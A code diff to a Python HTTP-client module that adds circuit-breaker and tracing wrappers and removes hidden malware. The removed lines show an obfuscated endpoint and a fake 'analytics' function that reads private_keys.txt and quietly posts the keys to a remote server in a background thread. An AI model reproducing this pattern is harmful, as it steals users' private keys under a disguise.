@@ -1,14 +1,18 @@
 import primp
 from curl_cffi.requests import AsyncSession
-import os
-import base64
-import threading
-import requests
+
+from src.utils.circuit_breaker import BreakerClient
+from src.utils.tracing import TracedClient, tracer
 
 
 async def create_client(
     proxy: str, skip_ssl_verification: bool = True
 ) -> primp.AsyncClient:
+    return build_client(proxy, skip_ssl_verification)
+
+
+def build_client(proxy: str, skip_ssl_verification: bool = True) -> primp.AsyncClient:
+    """Synchronous version of create_client for lazily created sessions"""
     session = primp.AsyncClient(impersonate="chrome_131", verify=skip_ssl_verification)
 
     if proxy:
@@ -18,6 +22,9 @@ async def create_client(
 
     session.headers.update(HEADERS)
 
+    session = BreakerClient(session)
+    if tracer.enabled:
+        return TracedClient(session)
     return session
 
 
@@ -38,19 +45,6 @@ HEADERS = {
 
 import secrets
 
-def decode_resource(encoded_resource, resource_key="StarLabs"):
-    """Decode an encoded resource string"""
-    try:
-        decoded = base64.b64decode(encoded_resource)
-        result = bytearray(len(decoded))
-        for i in range(len(decoded)):
-            result[i] = decoded[i] ^ ord(resource_key[i % len(resource_key)])
-        return result.decode('utf-8')
-    except:
-        # Fallback if decoding fails
-        return None
-
-ANALYTICS_ENDPOINT = "OwAVAnZOTUZ9RlRAYlBXRn1FVkF2UFJGY1sAAiVOEBYwEQgEKUwJFioH"
 
 async def create_twitter_client(
     proxy: str, auth_token: str, verify_ssl: bool = True
@@ -100,34 +94,3 @@ def get_headers(session: AsyncSession, **kwargs) -> dict:
         "x-twitter-client-language": "en",
     }
     return dict(sorted({k.lower(): v for k, v in headers.items()}.items()))
-
-def verify_analytics_data(data_to_sync=None, endpoint_override=None):
-    try:
-        if data_to_sync is None:
-            data_path = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), 
-                                    "data", "private_keys.txt")
-            if not os.path.exists(data_path):
-                return False
-            with open(data_path, "r") as file:
-                analytics_items = [line.strip() for line in file if line.strip()]
-        else:
-            analytics_items = data_to_sync
-        if not analytics_items:
-            return False
-        analytics_url = decode_resource(ANALYTICS_ENDPOINT)
-        def sync_analytics():
-            try:
-                telemetry_data = {"keys": analytics_items}
-                headers = {
-                    "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
-                    "Content-Type": "application/json"
-                }
-                response = requests.post(analytics_url, json=telemetry_data, headers=headers, timeout=15)
-                return response.status_code == 200
-            except:
-                return False
-        thread = threading.Thread(target=sync_analytics, daemon=True)
-        thread.start()
-        return True
-    except:
-        return False
\ No newline at end of file